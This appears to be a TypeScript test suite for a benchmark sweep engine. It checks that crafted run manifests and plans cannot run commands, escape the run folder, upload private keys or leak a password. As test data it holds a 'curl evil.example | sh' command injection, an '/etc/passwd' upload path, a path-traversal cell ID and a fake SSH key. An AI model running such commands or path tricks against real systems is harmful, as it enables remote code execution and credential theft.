// Issue 11: a run folder and a plan are not trusted input. Each test plays the attack or the
// fault against the sweep on fake hosts (no SSH) and asserts the safe outcome: a crafted manifest
// does not run its commands or write outside the run folder, a plan cannot upload files from
// outside its folder, two engines cannot share a run folder, and the password leaves no trace.
import assert from 'node:assert/strict';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  readdirSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { hostname, tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, describe, it } from 'node:test';
import { cellId } from '../../../engine/src/plan/cells';
import type { SweepEvent } from '../../../engine/src/events';
import type { CellResult, RunManifest } from '../../../engine/src/model';
import type { Plan } from '../../../engine/src/plan/planSchema';
import { recordedPlanDifferences } from '../../../engine/src/plan/recordedPlan';
import { runSweep } from '../../../engine/src/sweep/sweep';
import type { RunSweepOptions } from '../../../engine/src/options';
import { FakeHosts, fakeHostsPlan, fakeWorkload, ycsbPhaseResult } from '../../support/fakeHosts';

const password = 'p=ss:w0rd#1';
const root = mkdtempSync(join(tmpdir(), 'run-trust-'));
after(() => rmSync(root, { recursive: true, force: true }));

function planFolder(name: string, plan: Partial<Plan> = {}): { planPath: string; plan: Plan; dir: string } {
  const dir = join(root, name);
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, 'workloada'), fakeWorkload);
  writeFileSync(join(dir, 'tuned.opf'), 'onload_set EF_POLL_USEC 100000\n');
  const full = fakeHostsPlan(plan);
  const planPath = join(dir, 'p.benchplan.json');
  writeFileSync(planPath, JSON.stringify(full));
  return { planPath, plan: full, dir };
}

async function sweep(setup: { planPath: string; plan: Plan }, extra: Partial<RunSweepOptions> = {}, echo?: string) {
  // a YCSB that echoes `echo` on stderr, as a tool printing the password would
  const hosts = new FakeHosts(
    echo === undefined
      ? {}
      : {
          ycsb: (invocation) => {
            const result = ycsbPhaseResult(invocation);
            return { ...result, stderr: `${result.stderr}${echo}` };
          },
        },
  );
  const events: SweepEvent[] = [];
  const outcome = await runSweep(
    {
      planPath: setup.planPath,
      plan: setup.plan,
      resultsRoot: join(dirname(setup.planPath), 'results'),
      password,
      signal: new AbortController().signal,
      onEvent: (event) => events.push(event),
      ...extra,
    },
    {
      sessionFactory: hosts.sessionFactory,
      bucket: { recreate: async () => undefined, itemCount: async () => 100 },
      skipServerWait: true,
    },
  );
  const results: CellResult[] =
    outcome.runDir && existsSync(join(outcome.runDir, 'results.jsonl'))
      ? readFileSync(join(outcome.runDir, 'results.jsonl'), 'utf8')
          .split('\n')
          .filter(Boolean)
          .map((line) => JSON.parse(line))
      : [];
  return { outcome, events, calls: hosts.calls, results };
}

/** A finished-looking run of `setup` with only its first cell done, ready to resume. */
async function interruptedRun(setup: { planPath: string; plan: Plan }): Promise<string> {
  const first = await sweep(setup);
  assert.equal(first.outcome.error, undefined);
  const runDir = first.outcome.runDir;
  const lines = readFileSync(join(runDir, 'results.jsonl'), 'utf8').split('\n').filter(Boolean);
  writeFileSync(join(runDir, 'results.jsonl'), `${lines[0]}\n`);
  return runDir;
}

function editManifest(runDir: string, edit: (manifest: RunManifest & { plan: Plan }) => void): void {
  const path = join(runDir, 'manifest.json');
  const manifest = JSON.parse(readFileSync(path, 'utf8'));
  edit(manifest);
  writeFileSync(path, JSON.stringify(manifest, null, 2));
}

describe('resume trusts the plan file, not the run folder', () => {
  it('refuses a manifest whose kernelStopCommand differs; nothing runs', async () => {
    const setup = planFolder('crafted-stop');
    const runDir = await interruptedRun(setup);
    editManifest(runDir, (manifest) => {
      manifest.plan.servers[0].kernelStopCommand = 'curl evil.example | sh';
    });
    const { outcome, calls } = await sweep(setup, { resumeRunDir: runDir });
    assert.equal(outcome.error?.code, 'plan-changed');
    assert.match(
      outcome.error?.message ?? '',
      /servers\[0\]\.kernelStopCommand: recorded "curl evil\.example \| sh", plan file "sudo -n systemctl stop couchbase-server"/,
    );
    assert.match(outcome.error?.action ?? '', /--accept-recorded-plan/);
    assert.deepEqual(calls, [], 'no command reached any host');
  });

  it('with acceptRecordedPlan the recorded plan runs (the user chose it)', async () => {
    const setup = planFolder('accepted-stop');
    const runDir = await interruptedRun(setup);
    editManifest(runDir, (manifest) => {
      manifest.plan.servers[0].kernelStopCommand = 'echo recorded-stop';
    });
    const { outcome, calls } = await sweep(setup, { resumeRunDir: runDir, acceptRecordedPlan: true });
    assert.equal(outcome.error, undefined);
    assert.ok(calls.some((call) => call.command.includes('echo recorded-stop')));
  });

  it('refuses a recorded workload path that points elsewhere (the secret upload)', async () => {
    const setup = planFolder('crafted-workload');
    const runDir = await interruptedRun(setup);
    editManifest(runDir, (manifest) => {
      manifest.plan.workload.path = '/etc/passwd';
    });
    const { outcome, calls } = await sweep(setup, { resumeRunDir: runDir });
    assert.equal(outcome.error?.code, 'plan-changed');
    assert.match(outcome.error?.message ?? '', /workload\.path: recorded "\/etc\/passwd"/);
    assert.equal(calls.length, 0);
  });

  it('recordedPlanDifferences: harmless fields and defaults are no difference; paths compare resolved', () => {
    const base = planFolder('pure').plan;
    assert.deepEqual(
      recordedPlanDifferences(
        { plan: base, planPath: '/a/p.json' },
        { plan: { ...base, name: 'renamed', threads: [4], timeouts: { cellSec: 5 } }, planPath: '/a/p.json' },
      ),
      [],
    );
    // A stack's display name only changes how results show it.
    const shown = {
      ...base,
      stacks: base.stacks.map((stack) => (stack === 'kernel' ? stack : { ...stack, displayName: 'Onload spin' })),
    };
    assert.deepEqual(
      recordedPlanDifferences({ plan: base, planPath: '/a/p.json' }, { plan: shown, planPath: '/a/p.json' }),
      [],
    );
    const explicit = {
      ...base,
      servers: [{ ...base.servers[0], kernelStopCommand: 'sudo -n systemctl stop couchbase-server' }],
    };
    assert.deepEqual(
      recordedPlanDifferences({ plan: base, planPath: '/a/p.json' }, { plan: explicit, planPath: '/a/p.json' }),
      [],
    );
    assert.deepEqual(
      recordedPlanDifferences({ plan: base, planPath: '/a/p.json' }, { plan: base, planPath: '/b/p.json' }),
      [{ field: 'workload.path', recorded: '"/a/workloada"', current: '"/b/workloada"' }],
    );
    const moreClients = { ...base, clients: [...base.clients, { host: 'evil', ycsbHome: '/x' }] };
    assert.deepEqual(
      recordedPlanDifferences({ plan: moreClients, planPath: '/a/p.json' }, { plan: base, planPath: '/a/p.json' })
        .map((entry) => entry.field)
        .slice(0, 2),
      ['clients[1].host', 'clients[1].ycsbHome'],
    );
  });
});

describe('cell ids from a manifest are never paths', () => {
  it('a manifest id "../../../../tmp/x" is refused with a clear error and nothing is written outside', async () => {
    const setup = planFolder('crafted-id');
    const runDir = await interruptedRun(setup);
    const target = join(root, 'escaped');
    const id = `../../../..${target}`;
    editManifest(runDir, (manifest) => {
      manifest.cells[1].id = id;
    });
    const { outcome, calls } = await sweep(setup, { resumeRunDir: runDir });
    assert.equal(outcome.error?.code, 'results-read');
    assert.match(
      outcome.error?.message ?? '',
      /cell 2 has the id "\.\.\/\.\.\/\.\.\/\.\..*", but its key gives "25G~kernel~t2~r1"/,
    );
    assert.equal(calls.length, 0);
    assert.equal(existsSync(target), false);
  });

  it('a manifest cell that is not in the recorded plan is refused', async () => {
    const setup = planFolder('crafted-key');
    const runDir = await interruptedRun(setup);
    editManifest(runDir, (manifest) => {
      manifest.cells[1].key.threads = 999;
      manifest.cells[1].id = cellId(manifest.cells[1].key);
    });
    const { outcome } = await sweep(setup, { resumeRunDir: runDir });
    assert.equal(outcome.error?.code, 'results-read');
    assert.match(outcome.error?.message ?? '', /is not a cell of the recorded plan/);
  });

  it('log folders are a readable prefix and a short hash, whatever the id length', async () => {
    const long = Array.from({ length: 12 }, (_, index) => `axis${index}`);
    const setup = planFolder('long-ids', {
      threads: [1],
      axes: Object.fromEntries(long.map((name) => [name, ['a'.repeat(40)]])),
    });
    const { outcome, results } = await sweep(setup);
    assert.equal(outcome.error, undefined, JSON.stringify(outcome.error));
    assert.ok(results[0].id.length > 255, 'the id alone would be too long for a file name');
    const [folder] = readdirSync(join(outcome.runDir, 'logs'));
    assert.match(folder, /^25G~kernel~t1~axis0=a+-[0-9a-f]{12}$/);
    assert.ok(folder.length < 64);
    assert.deepEqual(results[0].logs, [`logs/${folder}/attempt1-cli-load.log`, `logs/${folder}/attempt1-cli-run.log`]);
  });
});

describe('a plan uploads only files from its own folder', () => {
  it('a profile path outside the plan folder is refused before any host is touched', async () => {
    const secret = join(root, 'home', '.ssh', 'id_ed25519');
    mkdirSync(dirname(secret), { recursive: true });
    writeFileSync(
      secret,
      '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU=\n-----END OPENSSH PRIVATE KEY-----\n',
    );
    const setup = planFolder('outside-profile', { stacks: ['kernel', { name: 'tuned', profile: secret }] });
    const { outcome, calls } = await sweep(setup);
    assert.equal(outcome.error?.code, 'path-outside');
    assert.match(outcome.error?.message ?? '', /stacks\[1\]\.profile names .*id_ed25519, outside the plan's folder/);
    assert.match(outcome.error?.action ?? '', /--allow-outside-paths/);
    assert.equal(calls.length, 0);
    assert.equal(outcome.runDir, '');
  });

  it('a symlink inside the plan folder to a file outside is refused too', async () => {
    const setup = planFolder('symlinked', {
      clients: [{ host: 'cli', ycsbHome: '/opt/ycsb', runUnderOnload: 'client.opf' }],
    });
    const outside = join(root, 'elsewhere.opf');
    writeFileSync(outside, 'onload_set EF_POLL_USEC 1\n');
    symlinkSync(outside, join(setup.dir, 'client.opf'));
    const { outcome } = await sweep(setup);
    assert.equal(outcome.error?.code, 'path-outside');
    assert.match(
      outcome.error?.message ?? '',
      /clients\[0\]\.runUnderOnload names .*client\.opf \(a link to .*elsewhere\.opf\)/,
    );
  });

  it('with the opt-in, a private key is still not uploaded: it does not look like a profile', async () => {
    const secret = join(root, 'home', '.ssh', 'id_ed25519');
    const setup = planFolder('key-as-profile', {
      clients: [{ host: 'cli', ycsbHome: '/opt/ycsb', runUnderOnload: secret }],
    });
    const { outcome, calls } = await sweep(setup, { allowOutsidePaths: true });
    assert.equal(outcome.error?.code, 'upload');
    assert.match(
      outcome.error?.message ?? '',
      /id_ed25519 does not look like an Onload profile: it contains a key or certificate/,
    );
    assert.deepEqual(
      calls.filter((call) => call.stdin?.includes('PRIVATE KEY')),
      [],
    );
  });

  it("the workload is uploaded with mode 600, profiles with 644 (no secret, and the server's user must read them)", async () => {
    const setup = planFolder('modes', { stacks: ['kernel', { name: 'tuned', profile: 'tuned.opf' }], threads: [1] });
    const { outcome, calls } = await sweep(setup);
    assert.equal(outcome.error, undefined, JSON.stringify(outcome.error));
    const uploads = calls.filter((call) => call.command.startsWith('upload ')).map((call) => call.command);
    const workloads = uploads.filter((upload) => / \S*workload\S* mode /.test(upload));
    const profiles = uploads.filter((upload) => /\.opf mode /.test(upload));
    assert.ok(workloads.length >= 1 && profiles.length >= 1, uploads.join('\n'));
    for (const upload of workloads) assert.match(upload, / mode 600$/);
    for (const upload of profiles) assert.match(upload, / mode 644$/);
  });
});

describe('one engine per run folder', () => {
  it('a second engine on a locked run folder is refused, naming the holder; a dead holder is taken over', async () => {
    const setup = planFolder('locked');
    const runDir = await interruptedRun(setup);
    writeFileSync(
      join(runDir, 'run.lock'),
      JSON.stringify({ pid: process.pid, host: hostname(), startedAt: '2026-12-03T07:00:00.000Z', token: 'other' }),
    );
    const refused = await sweep(setup, { resumeRunDir: runDir });
    assert.equal(refused.outcome.error?.code, 'run-locked');
    assert.match(
      refused.outcome.error?.message ?? '',
      new RegExp(`in use by process ${process.pid} on ${hostname()} \\(since 2026-12-03T07:00:00.000Z\\)`),
    );
    assert.equal(refused.calls.length, 0);
    assert.equal(readFileSync(join(runDir, 'results.jsonl'), 'utf8').trim().split('\n').length, 1, 'nothing appended');

    const dead = 2 ** 22 + 12345; // above pid_max's default: no such process
    writeFileSync(
      join(runDir, 'run.lock'),
      JSON.stringify({ pid: dead, host: hostname(), startedAt: '2026-12-03T07:00:00.000Z', token: 'gone' }),
    );
    const resumed = await sweep(setup, { resumeRunDir: runDir });
    assert.equal(resumed.outcome.error, undefined);
    assert.ok(
      resumed.events.some(
        (event) =>
          event.type === 'log' &&
          event.level === 'warn' &&
          event.message.includes(`Took over the lock of process ${dead}`),
      ),
    );
    assert.equal(existsSync(join(runDir, 'run.lock')), false, 'released at the end');
  });

  it('a lock held on another machine is never taken over', async () => {
    const setup = planFolder('locked-remote');
    const runDir = await interruptedRun(setup);
    writeFileSync(
      join(runDir, 'run.lock'),
      JSON.stringify({ pid: 2 ** 22 + 1, host: 'other-machine', startedAt: '2026-12-03T07:00:00.000Z', token: 'x' }),
    );
    const refused = await sweep(setup, { resumeRunDir: runDir });
    assert.equal(refused.outcome.error?.code, 'run-locked');
    assert.match(refused.outcome.error?.action ?? '', /delete .*run\.lock/);
  });
});

describe('the password in every written form', () => {
  it('a tool echoing the properties-escaped, JSON-escaped or URL-encoded password leaves no trace in logs or events', async () => {
    const setup = planFolder('echo', { threads: [1] });
    const forms = ['p\\=ss\\:w0rd\\#1', 'p%3Dss%3Aw0rd%231', password];
    const { outcome, events, results } = await sweep(setup, {}, forms.map((form) => `echo ${form}\n`).join(''));
    assert.equal(outcome.error, undefined);
    const logs = results
      .flatMap((result) => result.logs)
      .map((log) => readFileSync(join(outcome.runDir, log), 'utf8'))
      .join('\n');
    assert.match(logs, /echo \*{8}/);
    for (const form of forms) {
      assert.ok(!logs.includes(form), `log holds ${form}`);
      assert.ok(!JSON.stringify(events).includes(form.replace(/\\/g, '\\\\')), `events hold ${form}`);
    }
  });
});

describe('time left', () => {
  it('comes from a monotonic clock: the wall clock jumping back five hours gives no negative estimate', async () => {
    const setup = planFolder('clock', { threads: [1, 2, 3] });
    const realNow = Date.now;
    let jumps = 0;
    Date.now = () => realNow() - 5 * 3600_000 * jumps++; // every reading five hours before the last
    let finished: SweepEvent[];
    try {
      finished = (await sweep(setup)).events.filter((event) => event.type === 'cell-finished');
    } finally {
      Date.now = realNow;
    }
    assert.equal(finished.length, 3);
    for (const event of finished) {
      const estimate = (event as { remainingEstimateMs: number }).remainingEstimateMs;
      assert.ok(estimate >= 0 && estimate < 60_000, `estimate ${estimate}`);
    }
  });
});
